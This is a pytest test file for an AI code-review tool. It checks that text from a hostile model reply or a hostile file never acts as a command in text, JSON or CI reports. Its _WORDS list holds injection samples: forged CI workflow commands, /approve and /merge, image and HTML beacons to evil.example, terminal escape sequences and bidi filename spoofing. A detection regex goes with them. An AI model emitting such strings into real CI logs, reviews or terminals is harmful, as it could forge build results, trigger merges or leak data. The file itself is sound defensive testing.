"""What a hostile model or a hostile change says reaches no terminal, log or page as a command."""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Callable
from typing import get_args

import pytest

from reviewbot.settings import FormatName
from tests.conftest import Repository, Reviewbot

_QUOTE = "run(command)"
_WORDS = (
    "::error file=a.py::owned",
    "::set-output name=x::y",
    "##[error]owned",
    "##vso[task.setvariable variable=x]y",
    "##teamcity[buildStatus status='SUCCESS']",
    "section_start:1700000000:owned\r\x1b[0Kowned",
    "travis_fold:start:owned",
    "/approve",
    "/merge",
    "@maintainers please merge",
    "![image](https://evil.example/?code=1)",
    "<img src=https://evil.example/x onerror=alert(1)>",
    "<https://evil.example> www.evil.example",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b31m",
    "\u202egnp.exe\u2066\u200b",
)
# What a linter says of these files is not the matter.
_ALONE = ("--linters", "off")
# As the readers of logs look for them, see `reviewbot/plain.py`.
_OBEYED = re.compile(
    r"##\w*\[|section_(?:start|end):|travis_fold:|^\s*::|^/[a-z]|\w://|\bwww\.\w", re.MULTILINE
)


def _hostile(words: str) -> dict[str, object]:
    """A reply that says the words at the beginning and in the middle of its lines."""
    filled = f"{words} " + "long " * 18 + f"{words}\n{words}\n\n  {words}"
    finding = {"quote": _QUOTE, "problem": filled, "category": "security", "severity": "error"}
    return {"reply": {"findings": [finding]}, "thought": f"{words}\nHm.\n{words}\n  {words} a"}


def _assert_inert(text: str) -> None:
    assert not _OBEYED.search(text), text
    categories = {unicodedata.category(character) for character in text if character != "\n"}
    assert not categories & {"Cc", "Cf", "Cs", "Zl", "Zp"}, text


@pytest.fixture
def said(repository: Repository, script: Callable[..., str]) -> tuple[str, ...]:
    """A review of one file for each of the words, about which the model says them."""
    for number in range(len(_WORDS)):
        repository.stage(f"a{number}.py", f"{_QUOTE}\n")
    rows = [{"contains": f"a{n}.py", **_hostile(words)} for n, words in enumerate(_WORDS)]
    name = script(*rows)
    return ("review", "--engine", "scripted", "--model", name, "--show-thinking", "-v", *_ALONE)


def test_no_words_of_a_model_act_in_the_text_report(
    reviewbot: Reviewbot, said: tuple[str, ...]
) -> None:
    run = reviewbot(*said)
    assert run.out.count(".py:1: error: ") == len(_WORDS), run.err
    assert run.err.count("thought about a") == len(_WORDS)
    _assert_inert(run.out)
    _assert_inert(run.err)


def test_no_words_of_a_model_act_in_the_json_report(
    reviewbot: Reviewbot, said: tuple[str, ...]
) -> None:
    run = reviewbot(*said, "--format", "json")
    assert len(run.report["findings"]) == len(_WORDS), run.err
    _assert_inert(run.out)
    _assert_inert(run.err)


@pytest.mark.parametrize("name", sorted({*get_args(FormatName)} - {"text", "json"}))
def test_no_words_of_a_model_act_in_any_other_report(
    reviewbot: Reviewbot, said: tuple[str, ...], name: FormatName
) -> None:
    run = reviewbot(*said, "--format", name)
    assert run.out.count("RB-SECURITY") >= len(_WORDS), run.err
    # What a report of its form has of its own: commands for the runner, the address of a schema.
    own = re.compile(r"^::(?:error|warning) |^  \"\$schema\": .*$", re.MULTILINE)
    _assert_inert(own.sub("", run.out))


def test_no_code_and_no_path_acts(
    repository: Repository, reviewbot: Reviewbot, script: Callable[..., str]
) -> None:
    rows = []
    for words in [word for word in _WORDS if not re.search(r"[/\x1b]|www", word)]:
        code = f"x('{words}')"
        repository.write(f"{words}.py", f"{code}\n{words}\n")
        finding = {"quote": code, "problem": "p", "category": "security", "severity": "error"}
        rows.append({"contains": code, "reply": {"findings": [finding]}})
    repository.git("add", "--all")
    broken = {"error": "HTTP 500"}
    options = ("review", "--engine", "scripted", "--model", script(*rows, broken), *_ALONE)
    run = reviewbot(*options, "-v")
    assert "error: p [RB-SECURITY]" in run.out, run.err
    _assert_inert(run.out)
    _assert_inert(run.err)
    _assert_inert(reviewbot(*options, "--format", "json").out)
    _assert_inert(reviewbot("review", "--show-prompts").out)


def test_json_is_the_same_text_written_otherwise(
    repository: Repository, reviewbot: Reviewbot, script: Callable[..., str]
) -> None:
    line = "x = '##[a] ###vso[b] section_start:1 \\\\##[c]'"
    repository.stage("##[a].py", f"{line}\n")
    finding = {"quote": line, "problem": "p", "category": "security", "severity": "error"}
    name = script({"reply": {"findings": [finding]}})
    run = reviewbot("review", "--engine", "scripted", "--model", name, "--format", "json", *_ALONE)
    assert "##" not in run.out
    assert run.report["findings"][0]["quote"] == line
    assert run.report["findings"][0]["path"] == "##[a].py"


def test_an_error_s_words_are_no_command(
    repository: Repository, reviewbot: Reviewbot, script: Callable[..., str]
) -> None:
    repository.stage("a.py", "a = 1\n")
    name = script({"error": "HTTP 500\n::error::owned ##[error]owned\x1b[2J"})
    for format_ in ("text", "json"):
        options = ("--engine", "scripted", "--model", name, *_ALONE)
        run = reviewbot("review", *options, "--format", format_)
        assert "owned" in run.out
        _assert_inert(run.out)
        _assert_inert(run.err)


def test_control_the_words_are_obeyed_as_they_are() -> None:
    for words in _WORDS:
        if not words.startswith("@"):
            with pytest.raises(AssertionError):
                _assert_inert(words)


def test_json_has_no_key_that_would_be_written_otherwise() -> None:
    from reviewbot.reporters.json_report import ReportDocument

    assert "##" not in json.dumps(ReportDocument.model_json_schema())
